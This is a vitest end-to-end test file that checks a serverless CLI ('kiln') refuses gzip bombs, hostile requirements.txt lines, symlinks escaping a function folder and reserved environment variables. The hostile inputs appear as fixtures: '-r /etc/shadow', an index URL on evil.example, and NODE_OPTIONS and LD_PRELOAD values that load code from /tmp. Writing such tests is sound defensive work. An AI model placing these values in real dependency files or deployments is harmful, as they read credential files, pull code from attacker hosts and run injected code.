// Bad input against a real `kiln up` and the real CLI: gzip bombs are refused without `kiln up` growing
// by anything like their expanded size (its peak RSS, VmHWM from /proc, before and after), pip options
// in requirements.txt fail the build with their line before pip runs, a symbolic link out of a Python
// function's folder fails the build without touching its target, and reserved env names are refused
// before anything is built. Each refusal leaves nothing behind: no blob, no temp folder, no function.
import { mkdir, mkdtemp, readFile, readdir, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { get, kiln, kilnUp, ROOT, type UpProcess } from '../helpers/cli.js'
import { gzipBomb, gzipZeros } from '../helpers/archives.js'

const HELLO = join(ROOT, 'examples', 'hello', 'index.js')
const MiB = 1024 * 1024

let dataDir: string
let scratch: string
let up: UpProcess
let env: Record<string, string>

beforeAll(async () => {
  dataDir = await mkdtemp(join(tmpdir(), 'kiln-e2e-bad-'))
  scratch = await mkdtemp(join(tmpdir(), 'kiln-e2e-bad-scratch-'))
  up = await kilnUp(dataDir)
  env = { KILN_URL: up.url }
})

afterAll(async () => {
  await up?.stop()
  await rm(dataDir, { recursive: true, force: true })
  await rm(scratch, { recursive: true, force: true })
})

/** Peak resident set size of a process, in bytes (VmHWM). */
async function peakRss(pid: number): Promise<number> {
  const m = /VmHWM:\s+(\d+) kB/.exec(await readFile(`/proc/${pid}/status`, 'utf8'))
  return Number(m![1]) * 1024
}

/** Every file and folder under the data dir's packages/. */
async function packagesTree(): Promise<string[]> {
  return ((await readdir(join(dataDir, 'packages'), { recursive: true }).catch(() => [])) as string[]).sort()
}

const storedPackages = async () => JSON.parse((await get(`${up.url}/v1/packages`)).text) as { sha256: string }[]

describe('gzip bombs', () => {
  it('are refused with 400 KILN_ERR_BAD_PACKAGE, store nothing, and do not grow kiln up by their size', async () => {
    // The first upload pays one-time growth (parsers, buffers): measure after it.
    const first = await kiln(['fn', 'deploy', 'hello', '--code', HELLO, '-q'], env)
    expect(first.code, first.stderr).toBe(0)
    const before = await packagesTree()
    const stored = await storedPackages()
    const pid = up.child.pid!
    const rss0 = await peakRss(pid)

    const bombs = {
      // a tar whose one file is 1.1 GiB of zeros: the probe's 1.1 MB bomb (over the unpacked size cap)
      sizeCap: await gzipBomb(1.1 * 1024 * MiB),
      // 300 MiB of zeros: under the size cap, over the compression ratio cap
      ratio: await gzipBomb(300 * MiB),
      // no tar at all, 300 MiB of zeros: tar would keep everything after its empty "archive" in memory
      trailing: await gzipZeros(300 * MiB),
    }
    for (const [what, bomb] of Object.entries(bombs)) {
      expect(bomb.length, what).toBeLessThan(1.3 * MiB)
      const res = await get(`${up.url}/v1/packages`, { method: 'POST', body: bomb as unknown as string, headers: { 'content-type': 'application/gzip' } })
      expect(res.status, `${what}: ${res.text}`).toBe(400)
      expect(JSON.parse(res.text).error).toBe('KILN_ERR_BAD_PACKAGE')
    }

    // Old behaviour: +1.2 GB. A generous bound that still fails on any expansion of a bomb in memory.
    const growth = (await peakRss(pid)) - rss0
    expect(growth).toBeLessThan(192 * MiB)
    expect(await packagesTree()).toEqual(before)
    expect(await storedPackages()).toEqual(stored)
    expect((await get(`${up.url}/fn/hello?name=Ada`)).status).toBe(200)
  }, 180_000)
})

describe('requirements.txt', () => {
  it('pip options, URLs and paths fail the build with their line numbers before pip runs; nothing is uploaded or left in TMPDIR', async () => {
    const src = join(scratch, 'evil-req')
    await mkdir(src, { recursive: true })
    await writeFile(join(src, 'main.py'), 'def main(req):\n    return "hi"\n')
    await writeFile(join(src, 'requirements.txt'), [
      'six==1.16.0', '-r /etc/shadow', '--index-url https://evil.example/simple', '-e .', '--extra-index-url=https://evil.example/x',
      '-c constraints.txt', '--find-links /tmp', 'https://evil.example/pkg.whl', './local', 'pkg @ file:///etc', '',
    ].join('\n'))
    const tmp = await mkdtemp(join(scratch, 'tmp-'))
    const stored = await storedPackages()
    const d = await kiln(['fn', 'deploy', 'evil-req', '--runtime', 'python', '--code', src], { ...env, TMPDIR: tmp })
    expect(d.code, d.stderr).toBe(1)
    for (const line of [2, 3, 4, 5, 6, 7, 8, 9, 10]) expect(d.stderr).toContain(`requirements.txt:${line}:1:`)
    expect(d.stderr).not.toContain('requirements.txt:1:1:')
    // pip never read /etc/shadow: none of its lines shows up in the output
    const shadow = await readFile('/etc/shadow', 'utf8').catch(() => '')
    for (const l of shadow.split('\n').filter((x) => x.includes(':'))) expect(d.stderr + d.stdout).not.toContain(l)
    expect(await readdir(tmp)).toEqual([])
    expect(await storedPackages()).toEqual(stored)
    expect((await get(`${up.url}/v1/functions/evil-req`)).status).toBe(404)
  })
})

describe('symbolic links in a Python function folder', () => {
  it('a link out of the folder fails the build; the file it points at keeps its mode and time, nothing is uploaded', async () => {
    const secret = join(scratch, 'secret')
    await writeFile(secret, 'do not read\n', { mode: 0o600 })
    const { chmod, stat, symlink, utimes } = await import('node:fs/promises')
    await chmod(secret, 0o600)
    await utimes(secret, new Date('2024-01-02T03:04:05Z'), new Date('2024-01-02T03:04:05Z'))
    const src = join(scratch, 'links')
    await mkdir(src, { recursive: true })
    await writeFile(join(src, 'main.py'), 'def main(req):\n    return "hi"\n')
    await symlink(secret, join(src, 'leak.txt'))
    const tmp = await mkdtemp(join(scratch, 'tmp-'))
    const stored = await storedPackages()
    const d = await kiln(['fn', 'deploy', 'links', '--runtime', 'python', '--code', src], { ...env, TMPDIR: tmp })
    expect(d.code, d.stderr).toBe(1)
    expect(d.stderr).toContain('leak.txt')
    const st = await stat(secret)
    expect(st.mode & 0o777).toBe(0o600)
    expect(st.mtime.toISOString()).toBe('2024-01-02T03:04:05.000Z')
    expect(await readdir(tmp)).toEqual([])
    expect(await storedPackages()).toEqual(stored)
    expect((await get(`${up.url}/v1/functions/links`)).status).toBe(404)
  })
})

describe('env', () => {
  it.each([
    ['--env', 'NODE_OPTIONS=--require=/tmp/x.js'], ['--env', 'LD_PRELOAD=/tmp/x.so'], ['--env', 'PYTHONPATH=/tmp'], ['--env', 'KILN_RUNTIME=x'],
    ['--env', 'PORT=1'], ['--env', 'BAD-NAME=1'], ['--secret-env', 'db:password=LD_PRELOAD'],
  ])('kiln fn deploy %s %s exits 1 before building; no package, no function', async (flag, kv) => {
    const stored = await storedPackages()
    const d = await kiln(['fn', 'deploy', 'env-bad', '--code', HELLO, flag, kv], env)
    expect(d.code, d.stderr).toBe(1)
    expect(d.stderr).toMatch(/spec\.(env|secretEnv)/)
    expect(await storedPackages()).toEqual(stored)
    expect((await get(`${up.url}/v1/functions/env-bad`)).status).toBe(404)
  })
})
